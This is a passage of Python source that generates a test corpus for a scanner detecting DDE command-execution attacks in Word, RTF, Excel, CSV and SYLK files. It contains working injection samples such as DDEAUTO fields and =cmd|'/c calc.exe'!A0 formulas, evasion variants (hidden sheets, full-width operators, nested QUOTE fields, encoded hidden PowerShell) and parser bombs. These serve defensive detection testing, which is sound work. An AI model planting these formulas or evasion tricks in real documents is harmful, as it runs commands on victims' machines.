                + r"\par "
            ),
            "Instruction split over nested groups carrying formatting control words ({\\b D}"
            "{\\i D}{\\ul E}...); group boundaries do not break the text of a field instruction.",
            "RTF nested groups with formatting words",
            one(rtf_hit()),
        ),
        (
            "ddeauto-quote-nested.rtf",
            rtf(
                body
                + rtf_field("DDEAUTO " + rtf_field("QUOTE 99 109 100") + ' "/c calc.exe"')
                + r"\par "
            ),
            "DDEAUTO whose application is a nested QUOTE field of character codes ('cmd').",
            "RTF nested QUOTE field",
            one(rtf_hit("cmd /c calc.exe")),
        ),
        (
            "ddeauto-in-header.rtf",
            rtf(
                r"{\header\pard " + rtf_field("DDEAUTO " + RTF_CMD) + r"\par}"
                r"\pard Body text without fields.\par "
            ),
            "DDEAUTO inside the {\\header} destination; the body is clean.",
            "RTF field in header",
            one(rtf_hit(location="header")),
        ),
        (
            "ddeauto-rt-header.rtf",
            rtf(body + rtf_field("DDEAUTO " + RTF_CMD) + r"\par ", head=r"{\rt\ansi\deff0"),
            "File starts {\\rt instead of {\\rtf1: Word only checks the first bytes and opens "
            "it as RTF, a header trick used to slip past signature checks.",
            "RTF header without 'f'",
            one(rtf_hit()),
        ),
        (
            "ddeauto-whoami-scenario.rtf",
            rtf(
                body
                + rtf_field(
                    r"DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "
                    r'"/c whoami > %TEMP%\\\\dde_word_out.txt"'
                )
                + r"\par "
            ),
            "The detection page's scenario 'Word DDEAUTO Field Execution via RTF': cmd.exe "
            "writing whoami's output to %TEMP%\\dde_word_out.txt (harmless).",
            "detection page scenario 2",
            one(rtf_hit(r"cmd.exe /c whoami > %TEMP%\dde_word_out.txt")),
        ),
    ]
    return [Sample(f"rtf/{name}", data, d, t, e) for name, data, d, t, e in items]


CT_XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"
CT_XLSM = "application/vnd.ms-excel.sheet.macroEnabled.main+xml"
CT_XLTX = "application/vnd.openxmlformats-officedocument.spreadsheetml.template.main+xml"
CT_XLTM = "application/vnd.ms-excel.template.macroEnabled.main+xml"
CT_SML = "application/vnd.openxmlformats-officedocument.spreadsheetml."
SML_NS = (
    'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
    'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"'
)
DDE_FORMULA = "cmd|'/c calc.exe'!A0"


def cell(ref: str, inner: str, kind: str = "") -> str:
    type_attr = f' t="{kind}"' if kind else ""
    return f'<c r="{ref}"{type_attr}>{inner}</c>'


def formula_cell(ref: str, formula: str, attrs: str = "") -> str:
    return cell(ref, f"<f{attrs}>{escape(formula)}</f>")


def text_cell(ref: str, text: str) -> str:
    return cell(ref, f'<is><t xml:space="preserve">{escape(text)}</t></is>', "inlineStr")


def sheet_xml(rows: Sequence[Sequence[str]], after: str = "") -> bytes:
    body = "".join(
        f'<row r="{index}">{"".join(cells)}</row>' for index, cells in enumerate(rows, 1)
    )
    return (
        f"{XML_DECL}<worksheet {SML_NS}><sheetData>{body}</sheetData>{after}</worksheet>".encode()
    )


def workbook_package(
    sheets: Sequence[bytes],
    main_type: str = CT_XLSX,
    extra: Sequence[Part] = (),
    extra_rels: Sequence[Rel] = (),
    workbook_tail: str = "",
) -> bytes:
    entries = "".join(
        f'<sheet name="Sheet{n}" sheetId="{n}" r:id="rId{n}"/>' for n in range(1, len(sheets) + 1)
    )
    workbook = (
        f"{XML_DECL}<workbook {SML_NS}><sheets>{entries}</sheets>{workbook_tail}</workbook>"
    ).encode()
    rels = tuple(
        Rel(f"rId{n}", "worksheet", f"worksheets/sheet{n}.xml") for n in range(1, len(sheets) + 1)
    ) + tuple(extra_rels)
    parts = [Part("xl/workbook.xml", main_type, workbook, rels)]
    parts += [
        Part(f"xl/worksheets/sheet{n}.xml", f"{CT_SML}worksheet+xml", data)
        for n, data in enumerate(sheets, 1)
    ]
    return opc_package([*parts, *extra])


def dde_link_part(service: str, topic: str, item: str) -> Part:
    data = (
        f"{XML_DECL}<externalLink {SML_NS}><ddeLink ddeService={quoteattr(service)} "
        f'ddeTopic={quoteattr(topic)}><ddeItems><ddeItem name={quoteattr(item)} advise="1"/>'
        "</ddeItems></ddeLink></externalLink>"
    ).encode()
    return Part("xl/externalLinks/externalLink1.xml", f"{CT_SML}externalLink+xml", data)


def dde_link_workbook(service: str, topic: str, item: str, main_type: str = CT_XLSX) -> bytes:
    return workbook_package(
        [sheet_xml([[text_cell("A1", "Figures")]])],
        main_type=main_type,
        extra=[dde_link_part(service, topic, item)],
        extra_rels=[Rel("rIdLink1", "externalLink", "externalLinks/externalLink1.xml")],
        workbook_tail='<externalReferences><externalReference r:id="rIdLink1"/>'
        "</externalReferences>",
    )


def openpyxl_package(build: Callable[[openpyxl.Workbook], None]) -> bytes:
    workbook = openpyxl.Workbook()
    build(workbook)
    fixed = datetime.datetime(1980, 1, 1)
    workbook.properties.created = fixed
    workbook.properties.modified = fixed
    workbook.properties.creator = "ddescan corpus"
    buffer = io.BytesIO()
    workbook.save(buffer)
    return normalise_package(buffer.getvalue())


def excel_hit(
    command: str = "cmd /c calc.exe",
    location: str = "xl/worksheets/sheet1.xml",
    technique: str = FORMULA,
    image: str = "cmd.exe",
    spawn: bool = True,
    args: bool = False,
    exact: str | None = None,
) -> Hit:
    return Hit(technique, image, command, EXCEL, location, exact, spawn, args)


def excel_samples() -> list[Sample]:
    samples: list[Sample] = []

    def add(name: str, data: bytes, description: str, technique: str, expect: Expect) -> None:
        samples.append(Sample(f"excel/{name}", data, description, technique, expect))

    def basic(workbook: openpyxl.Workbook) -> None:
        sheet = workbook.active
        sheet["A1"] = "Total"
        sheet["B1"] = "=" + DDE_FORMULA

    add(
        "formula-cmd.xlsx",
        openpyxl_package(basic),
        "Cell formula =cmd|'/c calc.exe'!A0: a remote reference application|topic!item that "
        "makes Excel offer to start cmd.exe.",
        "DDE remote-reference cell formula",
        one(excel_hit(exact="cmd /c calc.exe")),
    )
    for state, name in (
        ("hidden", "formula-hidden-sheet.xlsx"),
        ("veryHidden", "formula-veryhidden-sheet.xlsx"),
    ):

        def build(workbook: openpyxl.Workbook, state: str = state) -> None:
            workbook.active.title = "Summary"
            workbook.active["A1"] = "Nothing to see here"
            sheet = workbook.create_sheet("Data")
            sheet.sheet_state = state
            sheet["A1"] = "=" + DDE_FORMULA

        add(
            name,
            openpyxl_package(build),
            f"The DDE formula sits on a second sheet whose state is {state} "
            + ("(unhide from the UI)." if state == "hidden" else "(only VBA can unhide it)."),
            f"{state} sheet",
            one(excel_hit(location="xl/worksheets/sheet2.xml")),
        )
    add(
        "formula-shared.xlsx",
        workbook_package(
            [
                sheet_xml(
                    [
                        [formula_cell("A1", DDE_FORMULA, ' t="shared" ref="A1:A3" si="0"')],
                        [formula_cell("A2", "", ' t="shared" si="0"')],
                        [formula_cell("A3", "", ' t="shared" si="0"')],
                    ]
                )
            ]
        ),
        'Shared formula (18.3.1.40, t="shared"): the DDE text is stored once on the master '
        "cell A1 and reused by A2:A3, which hold only the shared index.",
        "shared formula",
        Expect("malicious", (excel_hit(),)),
    )

    def array(workbook: openpyxl.Workbook) -> None:
        workbook.active["A1"] = ArrayFormula("A1", "=" + DDE_FORMULA)

    add(
        "formula-array.xlsx",
        openpyxl_package(array),
        'Array formula (t="array") holding the DDE remote reference.',
        "array formula",
        one(excel_hit()),
    )

    def defined_name(workbook: openpyxl.Workbook) -> None:
        workbook.active["A1"] = "Report"
        workbook.defined_names["payload"] = DefinedName("payload", attr_text=DDE_FORMULA)

    add(
        "defined-name.xlsx",
        openpyxl_package(defined_name),
        "Workbook defined name whose formula is the DDE remote reference (xl/workbook.xml "
        "definedName); no cell needs to show it.",
        "defined name",
        one(excel_hit(location="xl/workbook.xml")),
    )
    add(
        "ddelink-unused.xlsx",
        dde_link_workbook("cmd", "/c calc.exe", "A0"),
        "External link part with a ddeLink (ddeService=cmd, ddeTopic=/c calc.exe) and no cell "
        "that uses it: Excel still offers to start the link when the workbook opens.",
        "externalLink ddeLink",
        one(
            excel_hit(
                location="xl/externalLinks/externalLink1.xml",
                technique=LINK,
                exact="cmd /c calc.exe",
            )
        ),
    )

    def traversal(workbook: openpyxl.Workbook) -> None:
        workbook.active["A1"] = "=MSEXCEL|'\\..\\..\\..\\Windows\\System32\\cmd.exe /c calc.exe'!''"

    add(
        "formula-msexcel-traversal.xlsx",
        openpyxl_package(traversal),
        "=MSEXCEL|'\\..\\..\\..\\Windows\\System32\\cmd.exe /c calc.exe'!'': the topic climbs "
        "out of the application's folder, so the named service is not what starts.",
        "MSEXCEL topic path traversal",
        one(excel_hit(r"Windows\System32\cmd.exe /c calc.exe")),
    )

    def concatenation(workbook: openpyxl.Workbook) -> None:
        workbook.active["A1"] = "Invoice"
        workbook.active["B1"] = "=A1&" + DDE_FORMULA

    add(
        "formula-concatenation.xlsx",
        openpyxl_package(concatenation),
        "=A1&cmd|'/c calc.exe'!A0: the remote reference is one operand of a larger "
        "expression, not the start of the formula.",
        "DDE inside a larger expression",
        one(excel_hit()),
    )

    def conditional(workbook: openpyxl.Workbook) -> None:
        sheet = workbook.active
        sheet["A1"] = 1
        sheet.conditional_formatting.add(
            "A1", FormulaRule(formula=[DDE_FORMULA], font=Font(bold=True))
        )

    add(
        "conditional-formatting.xlsx",
        openpyxl_package(conditional),
        "Conditional-formatting rule (cfRule type=expression) whose formula is the DDE "
        "remote reference.",
        "conditional formatting formula",
        one(excel_hit()),
    )
    add(
        "formula-comment-spliced.xlsx",
        workbook_package(
            [
                sheet_xml([[formula_cell("A1", 'DDE("cmd","/c calc.exe","A0")')]]).replace(
                    b"DDE(", b"D<!---->DE("
                )
            ]
        ),
        'Cell formula D<!---->DE("cmd","/c calc.exe","A0"): an XML comment splits the '
        "function name in the stored part; an XML reader drops it and reads DDE(...), a byte "
        "search for the name does not (whether Excel itself accepts a comment inside <f> is "
        "unverified).",
        "XML comment inside a formula name",
        one(excel_hit(exact="cmd /c calc.exe")),
    )
    add(
        "formula-strict.xlsx",
        strict_package(workbook_package([sheet_xml([[formula_cell("A1", DDE_FORMULA)]])])),
        "DDE cell formula in an ISO/IEC 29500 Strict workbook (purl.oclc.org namespaces).",
        "Strict conformance namespaces",
        one(excel_hit()),
    )
    add(
        "formula-cmd.xlsm",
        workbook_package([sheet_xml([[formula_cell("A1", DDE_FORMULA)]])], main_type=CT_XLSM),
        f"DDE cell formula in a macro-enabled workbook, identified by content type {CT_XLSM}.",
        "Excel .xlsm content type",
        one(excel_hit()),
    )
    add(
        "ddelink-cmd.xltx",
        dde_link_workbook("cmd", "/c calc.exe", "A0", main_type=CT_XLTX),
        f"ddeLink in a template, identified by content type {CT_XLTX}.",
        "Excel .xltx content type",
        one(excel_hit(location="xl/externalLinks/externalLink1.xml", technique=LINK)),
    )
    add(
        "formula-cmd.xltm",
        workbook_package(
            [sheet_xml([[formula_cell("A1", "cmd|'/c notepad.exe'!A0")]])], main_type=CT_XLTM
        ),
        f"DDE cell formula in a macro-enabled template, content type {CT_XLTM}.",
        "Excel .xltm content type",
        one(excel_hit("cmd /c notepad.exe")),
    )
    return samples


def csv_hit(command: str = "cmd /c calc.exe", image: str = "cmd.exe", args: bool = False) -> Hit:
    return Hit(FORMULA, image, command, EXCEL, "", None, True, args)


def lines(*rows: str) -> str:
    return "".join(row + "\r\n" for row in rows)


def csv_samples() -> list[Sample]:
    encoded = base64.b64encode("Write-Output hi".encode("utf-16-le")).decode("ascii")
    sylk = lines("ID;PWXL;N;E", "P;PGeneral", f"C;Y1;X1;K0;E{DDE_FORMULA}", "E").encode("ascii")
    table = "Name,Amount"
    items: list[tuple[str, bytes, str, str, Hit]] = [
        (
            "formula-cmd.csv",
            lines(table, f"Invoice,={DDE_FORMULA}").encode(),
            "Classic CSV injection: a cell =cmd|'/c calc.exe'!A0 that Excel reads as a formula.",
            "CSV DDE formula",
            Hit(FORMULA, "cmd.exe", "cmd /c calc.exe", EXCEL, "", "cmd /c calc.exe", True, False),
        ),
        (
            "whoami-scenario.csv",
            lines(table, "Invoice,=cmd|' /c whoami > %TEMP%\\dde_csv_out.txt'!A0").encode(),
            "The detection page's scenario 'CSV DDE Injection via Excel': cmd.exe writing "
            "whoami's output to %TEMP%\\dde_csv_out.txt (harmless).",
            "detection page scenario 1",
            csv_hit(r"/c whoami > %TEMP%\dde_csv_out.txt"),
        ),
        (
            "plus-prefix.csv",
            lines(table, f"Invoice,+{DDE_FORMULA}").encode(),
            "Formula introduced by '+' instead of '=' (Excel treats a leading + as a formula).",
            "'+' prefix",
            csv_hit(),
        ),
        (
            "minus-prefix.csv",
            lines(table, f"Invoice,-2+3+{DDE_FORMULA}").encode(),
            "Formula introduced by '-' (arithmetic first, then the remote reference).",
            "'-' prefix",
            csv_hit(),
        ),
        (
            "at-prefix.csv",
            lines(table, f"Invoice,@SUM(1+1)*{DDE_FORMULA}").encode(),
            "Formula introduced by '@' (Lotus-style function prefix Excel still accepts).",
            "'@' prefix",
            csv_hit(),
        ),
        (
            "quoted-cell.csv",
            lines(table, f'Invoice,"={DDE_FORMULA}"').encode(),
            "The formula cell is an RFC 4180 quoted field; the quotes are CSV syntax, not text.",
            "quoted CSV field",
            csv_hit(),
        ),
        (
            "leading-spaces.csv",
            lines(table, f"Invoice,   ={DDE_FORMULA}").encode(),
            "Spaces before the '=' of the formula cell.",
            "leading spaces",
            csv_hit(),
        ),
        (
            "semicolon-delimited.csv",
            lines("Name;Amount", f"Invoice;={DDE_FORMULA}").encode(),
            "';'-delimited file (the list separator of many European locales).",
            "';' delimiter",
            csv_hit(),
        ),
        (
            "tab-delimited.csv",
            lines("Name\tAmount", f"Invoice\t={DDE_FORMULA}").encode(),
            "TAB-delimited file saved with a .csv name.",
            "TAB delimiter",
            csv_hit(),
        ),
        (
            "pipe-delimited-sep.csv",
            lines("sep=|", "Name|Amount", f'Invoice|"={DDE_FORMULA}"').encode(),
            "'|'-delimited file declared by a sep=| first line; the formula cell is quoted "
            "because its own '|' would otherwise split it.",
            "'|' delimiter with sep= line",
            csv_hit(),
        ),
        (
            "sep-semicolon.csv",
            lines("sep=;", "Name;Amount", f"Invoice;={DDE_FORMULA}").encode(),
            "Excel's sep=; directive on the first line chooses the delimiter.",
            "sep=; directive",
            csv_hit(),
        ),
        (
            "utf8-bom.csv",
            b"\xef\xbb\xbf" + lines(table, f"Café,={DDE_FORMULA}").encode("utf-8"),
            "UTF-8 with a byte-order mark.",
            "UTF-8 BOM",
            csv_hit(),
        ),
        (
            "utf16le-bom.txt",
            b"\xff\xfe" + lines("Name\tAmount", f"Café\t={DDE_FORMULA}").encode("utf-16-le"),
            "UTF-16 LE with BOM, TAB-delimited: Excel's 'Unicode Text' (.txt) format.",
            "UTF-16 LE BOM",
            csv_hit(),
        ),
        (
            "utf16be-bom.csv",
            b"\xfe\xff" + lines("Name\tAmount", f"Café\t={DDE_FORMULA}").encode("utf-16-be"),
            "UTF-16 BE with BOM, TAB-delimited.",
            "UTF-16 BE BOM",
            csv_hit(),
        ),
        (
            "cp1252.csv",
            lines(table, f"Café – €5,={DDE_FORMULA}").encode("cp1252"),
            "Windows-1252 text (é, en dash and euro sign are not valid UTF-8 here).",
            "cp1252 encoding",
            csv_hit(),
        ),
        (
            "fullwidth.csv",
            lines(table, "Invoice,＝cmd｜'/c calc.exe'！A0").encode(),
            "Full-width ＝, ｜ and ！ (U+FF1D, U+FF5C, U+FF01), which East Asian Excel input "
            "folds to their ASCII forms (NFKC); written to slip past filters that look for "
            "ASCII '=' only.",
            "full-width operators",
            csv_hit(),
        ),
        (
            "sylk.slk",
            sylk,
            "SYLK file (ID;P header) whose C record carries the DDE formula in its E field.",
            "SYLK formula",
            csv_hit(),
        ),
        (
            "sylk-named.csv",
            sylk,
            "The same SYLK content saved with a .csv name: Excel sniffs the ID; header and "
            "opens it as SYLK, so a CSV-only reader sees no formula cell.",
            "SYLK content behind a .csv name",
            csv_hit(),
        ),
        (
            "rundll32-url.csv",
            lines(table, "Invoice,\"=rundll32|'URL.dll,OpenURL calc.exe'!A0\"").encode(),
            "=rundll32|'URL.dll,OpenURL calc.exe'!A0 (quoted for its comma): rundll32 "
            "runs url.dll's OpenURL export on calc.exe.",
            "rundll32 URL.dll,OpenURL",
            csv_hit("rundll32 URL.dll,OpenURL calc.exe", image="rundll32.exe"),
        ),
        (
            "powershell-encoded.csv",
            lines(table, f"Invoice,=cmd|'/c powershell -w hidden -enc {encoded}'!A0").encode(),
            "cmd.exe starting PowerShell with -enc and a base64 UTF-16LE script "
            "(it decodes to 'Write-Output hi').",
            "encoded PowerShell cradle",
            csv_hit(f"cmd /c powershell -w hidden -enc {encoded}", args=True),
        ),
    ]
    return [Sample(f"csv/{name}", data, d, t, one(hit)) for name, data, d, t, hit in items]


def clean_samples() -> list[Sample]:
    def prose(document: docx.document.Document) -> None:
        document.add_heading("Security awareness: DDE", level=1)
        document.add_paragraph(
            'Attackers type DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc.exe" into a '
            "field; this paragraph only quotes it as text."
        )
        document.add_paragraph("In spreadsheets the same trick reads =cmd|'/c calc.exe'!A0.")

    fields = (
        para(field(instr(' HYPERLINK "http://example.invalid/" '), result="example"))
        + para(field(instr(" PAGE "), result="1"))
        + para(field(instr(r' TOC \o "1-3" \h \z \u '), result="Contents"))
        + para(field(instr(r' DATE \@ "yyyy-MM-dd" '), result="2017-10-10"))
        + para(field(instr(r" MERGEFIELD FirstName \* MERGEFORMAT "), result="«FirstName»"))
        + para(field(instr(' INCLUDEPICTURE "http://example.invalid/x.png" \\d '), result=""))
        + para(field(instr(' QUOTE "hello" '), result="hello"))
        + para('<w:fldSimple w:instr=" NUMPAGES ">' + text_run("1") + "</w:fldSimple>")
    )

    def formulas(workbook: openpyxl.Workbook) -> None:
        sheet = workbook.active
        for row, value in enumerate((1, 2, 3), 1):
            sheet.cell(row=row, column=1, value=value)
        sheet["A4"] = "=SUM(A1:A3)"
        sheet["A5"] = '=HYPERLINK("https://example.invalid","x")'
        sheet["A6"] = '="' + DDE_FORMULA + '"'
        sheet["A7"] = "=" + DDE_FORMULA
        sheet["A7"].data_type = "s"

    shared_strings = (
        f'{XML_DECL}<sst {SML_NS} count="2" uniqueCount="2"><si><t>Note</t></si>'
        f"<si><t>{escape('=' + DDE_FORMULA)}</t></si></sst>"
    ).encode()
    items: list[tuple[str, bytes, str, str]] = [
        (
            "body-text-mentions-dde.docx",
            python_docx_package(prose),
            "Body text that quotes DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe and "
            "=cmd|'/c calc.exe'!A0 as prose: no field, nothing runs.",
            "DDE text outside any field",
        ),
        (
            "ordinary-fields.docx",
            word_package(fields),
            "Everyday fields: HYPERLINK, PAGE, TOC, DATE, MERGEFIELD, INCLUDEPICTURE (to "
            'example.invalid), QUOTE "hello" and a simple NUMPAGES field.',
            "non-DDE fields",
        ),
        (
            "page-field-utf16-header.docx",
            utf16_header_package(field(instr(" PAGE "), result="1")),
            "A PAGE field in a header part encoded as UTF-16 LE: the encoding alone is not a "
            "finding.",
            "non-DDE field in a UTF-16 header part",
        ),
        (
            "page-field-with-dde-result.docx",
            word_package(para(field(instr(" PAGE "), result=CMD_FIELD))),
            "A PAGE field whose cached result text reads like a DDEAUTO instruction: only the "
            "instruction decides what a field does.",
            "DDE text in a field result",
        ),
        (
            "ordinary-formulas.xlsx",
            openpyxl_package(formulas),
            '=SUM(A1:A3), =HYPERLINK("https://example.invalid","x"), a formula that is '
            "only a string literal \"cmd|'/c calc.exe'!A0\", and an inline string cell whose "
            "text is =cmd|'/c calc.exe'!A0.",
            "ordinary formulas and DDE-looking strings",
        ),
        (
            "formula-with-comment.xlsx",
            workbook_package(
                [
                    sheet_xml([[formula_cell("A1", "SUM(B1:B3)")]]).replace(
                        b"SUM(", b"SU<!-- total -->M("
                    )
                ]
            ),
            "Cell formula SU<!-- total -->M(B1:B3): an XML comment inside an ordinary "
            "formula is not a finding.",
            "XML comment inside an ordinary formula",
        ),
        (
            "shared-string-dde-text.xlsx",
            workbook_package(
                [sheet_xml([[cell("A1", "<v>0</v>", "s"), cell("B1", "<v>1</v>", "s")]])],
                extra=[Part("xl/sharedStrings.xml", f"{CT_SML}sharedStrings+xml", shared_strings)],
                extra_rels=[Rel("rIdStr", "sharedStrings", "sharedStrings.xml")],
            ),
            "A shared string =cmd|'/c calc.exe'!A0 shown in a text cell (t=\"s\"): text, not "
            "a formula.",
            "DDE text in a shared string",
        ),
        (
            "ordinary-values.csv",
            lines(
                "Name,Balance,Phone,Handle,Check,Note",
                "Alice,-12.50,+44 20 7946 0000,@alice,=SUM(A1:A2),'=cmd|'/c calc.exe'!A0",
                "Bob,-3,+1 555 0100,@bob,=SUM(B1:B2),plain",
            ).encode(),
            "Negative numbers, international phone numbers, @mentions, an ordinary =SUM "
            "formula, and a '=cmd|... text cell (leading apostrophe: text).",
            "CSV values that start with formula characters",
        ),
        (
            "dde-text-and-hyperlink.rtf",
            rtf(
                r"\pard This advisory explains DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "
                r"and =cmd|'/c calc.exe'!A0 attacks.\par "
                + rtf_field('HYPERLINK "https://example.invalid/advisory"', "advisory")
                + r"\par "
            ),
            "RTF whose body text discusses DDE and which holds one HYPERLINK field.",
            "DDE text in RTF body, non-DDE field",
        ),
        (
            "ordinary-sylk.slk",
            lines(
                "ID;PWXL;N;E",
                "P;PGeneral",
                "C;Y1;X1;K1142",
                "C;Y2;X1;K17.5",
                "C;Y3;X1;K1159.5;ESUM(R1C1:R2C1)",
                f'C;Y1;X2;K"Training: never paste {DDE_FORMULA} into a cell"',
                f'C;Y2;X2;K"={DDE_FORMULA}"',
                f'C;Y3;X2;K"Remote references;;E.g. {DDE_FORMULA}"',
                "E",
            ).encode("ascii"),
            "SYLK with numbers, an ordinary formula (;ESUM(R1C1:R2C1)) and text constants "
            "(;K\"...\") that quote cmd|'/c calc.exe'!A0: as prose, as a string that starts "
            "with '=', and after an escaped semicolon (;; stands for ';', so ';;E.g. ...' stays "
            "inside the string and is no ;E expression field). Only ;E fields are formulas.",
            "SYLK text values and escaped semicolons (must stay clean)",
        ),
    ]
    return [Sample(f"clean/{name}", data, d, t, CLEAN) for name, data, d, t in items]


def allowed_samples() -> list[Sample]:
    def blp(location: str, technique: str, allowed: bool | None = None) -> Hit:
        return Hit(
            technique, "blp.exe", "BLP IBM US Equity", EXCEL, location, None, False, False, allowed
        )

    items = (
        (
            "bloomberg-link.csv",
            lines("Ticker,Last", "IBM,=BLP|'IBM US Equity'!PX_LAST").encode(),
            "A market-data DDE link (=BLP|'IBM US Equity'!PX_LAST) of the kind the detection "
            "page lists as a false positive; reported by default, allowed when the BLP "
            "service is configured as allowed.",
            "legitimate DDE data link (CSV)",
            "",
            FORMULA,
        ),
        (
            "bloomberg-ddelink.xlsx",
            dde_link_workbook("BLP", "IBM US Equity", "PX_LAST"),
            "The same market-data link stored as an external ddeLink (ddeService=BLP).",
            "legitimate DDE data link (xlsx ddeLink)",
            "xl/externalLinks/externalLink1.xml",
            LINK,
        ),
    )
    return [
        Sample(
            f"allowed/{name}",
            data,
            description,
            technique_tested,
            one(blp(location, technique, False), verdict="suspicious"),
            Allowed(("BLP",), one(blp(location, technique, True), verdict="clean")),
        )
        for name, data, description, technique_tested, location, technique in items
    ]


def bad_samples() -> list[Sample]:
    good = word_package(lure() + para(field(instr(f" {CMD_FIELD} "), result="x")))
    laughs = (
        '<?xml version="1.0"?>\n<!DOCTYPE w:document [<!ENTITY a "lol">'
        '<!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">'
        '<!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;">'
        '<!ENTITY d "&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;">]>\n'
        f"<w:document {W_NS}><w:body><w:p><w:r><w:t>&d;</w:t></w:r></w:p></w:body></w:document>"
    ).encode()
    spaces = 16 * 1024 * 1024
    bomb = (
        f'{XML_DECL}<w:document {W_NS}><w:body><w:p><w:r><w:t xml:space="preserve">'.encode()
        + b" " * spaces
        + b"</w:t></w:r></w:p></w:body></w:document>"
    )

    def replace_document(data: bytes) -> bytes:
        return opc_package([Part("word/document.xml", CT_DOCX, data)])

    items = (
        (
            "truncated.docx",
            good[: len(good) // 2],
            "A DDEAUTO docx cut in half: no central directory, so the ZIP cannot be read.",
            "truncated ZIP",
            "malformed",
        ),
        (
            "document-not-xml.docx",
            replace_document(b"this is not XML <w:document"),
            "A well-formed package whose word/document.xml is not XML.",
            "main part not XML",
            "malformed",
        ),
        (
            "doctype-entities.docx",
            replace_document(laughs),
            "word/document.xml with a DOCTYPE declaring nested entities (a small billion-laughs "
            "shape); package XML must not carry a DTD (ECMA-376 Part 2, 8.1.4).",
            "DTD / entity expansion",
            "malformed",
        ),
        (
            "compression-bomb.docx",
            replace_document(bomb),
            f"word/document.xml inflates from about 16 KB to {spaces // (1024 * 1024)} MB of "
            "spaces (ratio near 1000:1), past the 200:1 compression-ratio limit.",
            "compression ratio limit",
            "limit",
        ),
    )
    return [
        Sample(f"bad/{name}", data, d, t, Expect("error", (), 0, (kind,)))
        for name, data, d, t, kind in items
    ]


def doc_hit(command: str, location: str) -> Hit:
    return Hit(FIELD, "cmd.exe", command, WORD, location, command, True, False)


def doc_samples() -> list[Sample]:
    """Word 97-2003 binary documents ([MS-DOC]) written by corpus/docwriter.py."""
    lure_text = "Invoice 2017-1142\rPlease enable editing and update the links.\r"
    quote = docwriter.field(
        "DDEAUTO " + docwriter.field("QUOTE 99 109 100") + ' "/c calc.exe" ', "Loading..."
    )
    clean_body = (
        lure_text
        + 'Attackers type DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc.exe" into a '
        "field; this paragraph only quotes it as text.\r"
        + "Page "
        + docwriter.field(" PAGE ", "DDEAUTO cmd /c calc.exe")
        + " of "
        + docwriter.field(" NUMPAGES ", "1")
        + "\r"
        + docwriter.field(' HYPERLINK "http://example.invalid/" ', "example")
        + "\r"
    )
    items: list[tuple[str, bytes, str, str, Expect]] = [
        (
            "ddeauto-cmd.doc",
            docwriter.doc_file(
                docwriter.Stories(lure_text + docwriter.field(CMD_FIELD + " ", "") + "\r")
            ),
            "DDEAUTO field in the main text of a Word 97-2003 binary document: one compressed "
            "(8-bit) piece, fields marked by the 0x13/0x14/0x15 characters, no PlcFld table.",
            ".doc field characters in the main text",
            one(doc_hit(CMD_LINE, "WordDocument > main text")),
        ),
        (
            "ddeauto-quote-nested.doc",
            docwriter.doc_file(
                docwriter.Stories(lure_text, headers="Confidential " + quote + "\r"),
                encoding="utf-16",
                piece_chars=16,
            ),
            "DDEAUTO whose application is a nested QUOTE field of character codes ('cmd'), in "
            "the header sub-document of a .doc whose text is UTF-16 split over several pieces; "
            "the main text is clean.",
            ".doc nested QUOTE field in a header, UTF-16 pieces",
            one(doc_hit("cmd /c calc.exe", "WordDocument > headers and footers")),
        ),
        (
            "ordinary-fields.doc",
            docwriter.doc_file(docwriter.Stories(clean_body), encoding="mixed", piece_chars=24),
            "Clean .doc: DDEAUTO quoted as prose, a PAGE field whose cached result reads "
            "DDEAUTO, NUMPAGES and HYPERLINK fields; pieces alternate 8-bit and UTF-16.",
            ".doc look-alike (must stay clean)",
            CLEAN,
        ),
    ]
    return [Sample(f"doc/{name}", data, d, t, e) for name, data, d, t, e in items]


W2003_NS = (
    'xmlns:w="http://schemas.microsoft.com/office/word/2003/wordml" '
    'xmlns:wx="http://schemas.microsoft.com/office/word/2003/auxHint" '
    'xmlns:aml="http://schemas.microsoft.com/aml/2001/core" '
    'xmlns:o="urn:schemas-microsoft-com:office:office"'
)
MSO_WORD = '<?mso-application progid="Word.Document"?>\n'
MSO_EXCEL = '<?mso-application progid="Excel.Sheet"?>\n'
PKG_NS = "http://schemas.microsoft.com/office/2006/xmlPackage"
SS_NS = "urn:schemas-microsoft-com:office:spreadsheet"
X_NS = "urn:schemas-microsoft-com:office:excel"
LIBREOFFICE = "soffice.bin"
ODF_MIME = "application/vnd.oasis.opendocument."
ODF_NS = (
    'xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" '
    'xmlns:style="urn:oasis:names:tc:opendocument:xmlns:style:1.0" '
    'xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" '
    'xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0" '
    'xmlns:of="urn:oasis:names:tc:opendocument:xmlns:of:1.2" office:version="1.3"'
)


def word2003_document(body: str, sect: str = "", encoding: str = "UTF-8") -> str:
    """Word 2003 XML (WordprocessingML 2003): the same field markup in the 2003 namespace."""
    return (
        f'<?xml version="1.0" encoding="{encoding}" standalone="yes"?>\n{MSO_WORD}'
        f'<w:wordDocument {W2003_NS} xml:space="preserve"><o:DocumentProperties>'
        "<o:Author>ddescan corpus</o:Author></o:DocumentProperties>"
        f"<w:body><wx:sect>{body}<w:sectPr>{sect}</w:sectPr></wx:sect></w:body></w:wordDocument>"
    )


def flat_opc_part(name: str, content_type: str, xml: bytes) -> str:
    inner = xml.decode().removeprefix(XML_DECL)
    return (
        f'<pkg:part pkg:name="{name}" pkg:contentType="{content_type}">'
        f"<pkg:xmlData>{inner}</pkg:xmlData></pkg:part>"
    )


def flat_opc_word(body: str) -> bytes:
    """A Word document saved as "Word XML Document" (Flat OPC: the package as one XML file)."""
    package_rels = _rels_xml([Rel("rId1", "officeDocument", "word/document.xml")])
    parts = flat_opc_part(
        "/_rels/.rels", "application/vnd.openxmlformats-package.relationships+xml", package_rels
    ) + flat_opc_part("/word/document.xml", CT_DOCX, document_xml(body))
